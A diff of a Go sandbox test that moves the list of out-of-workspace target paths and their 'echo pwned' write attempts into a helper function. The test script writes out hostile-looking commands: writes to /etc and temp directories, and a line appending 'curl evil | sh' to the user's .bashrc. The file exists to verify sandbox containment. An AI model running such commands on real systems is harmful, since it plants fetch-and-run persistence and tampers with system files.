@@ -17,25 +17,9 @@ func testWritesOutside(t *testing.T) {
 	const bashrc = "# the user's bashrc\n"
 	writeFile(t, filepath.Join(b.home, ".bashrc"), bashrc, 0o644)
 
-	targets := []string{
-		filepath.Join(b.home, "x-"+u),
-		filepath.Join(b.home, "dir-"+u),
-		filepath.Join(b.root, "beside-workspace-"+u),
-		"/etc/moat-x-" + u,
-		"/tmp/moat-x-" + u,
-		filepath.Join(os.TempDir(), "moat-x2-"+u),
-		"/dev/shm/moat-x-" + u,
-		"/var/tmp/moat-x-" + u,
-	}
-	t.Cleanup(func() {
-		for _, p := range targets {
-			os.RemoveAll(p)
-		}
-	})
+	targets, attempts := outsideWrites(t, b, u)
 	var s strings.Builder
-	for _, p := range targets {
-		s.WriteString("echo pwned > " + shq(p) + " 2>/dev/null\n")
-	}
+	s.WriteString(attempts)
 	s.WriteString(`mkdir "$HOME/dir2-` + u + `" 2>/dev/null
 echo 'curl evil | sh' >> "$HOME/.bashrc" 2>/dev/null
 # controls: the workspace is writable, the fake home is the host's and readable,
@@ -73,6 +57,32 @@ cat /tmp/moat-x-` + u + ` > tmpread 2>&1
 		}
 	}
 	t.Logf("inside, /tmp/moat-x-%s read back: %q (the private /tmp)", u, readFile(t, filepath.Join(b.ws, "tmpread")))
+}
+
+// outsideWrites returns host paths outside the workspace (in the fake home, beside the
+// workspace, /etc and the host's temp dirs), removed when the test ends, and script
+// lines that try to write each.
+func outsideWrites(t *testing.T, b *box, u string) (targets []string, script string) {
+	targets = []string{
+		filepath.Join(b.home, "x-"+u),
+		filepath.Join(b.home, "dir-"+u),
+		filepath.Join(b.root, "beside-workspace-"+u),
+		"/etc/moat-x-" + u,
+		"/tmp/moat-x-" + u,
+		filepath.Join(os.TempDir(), "moat-x2-"+u),
+		"/dev/shm/moat-x-" + u,
+		"/var/tmp/moat-x-" + u,
+	}
+	t.Cleanup(func() {
+		for _, p := range targets {
+			os.RemoveAll(p)
+		}
+	})
+	var s strings.Builder
+	for _, p := range targets {
+		s.WriteString("echo pwned > " + shq(p) + " 2>/dev/null\n")
+	}
+	return targets, s.String()
 }
 
 // testSecretReads: denied files can't be read by any path, and nothing of them lands
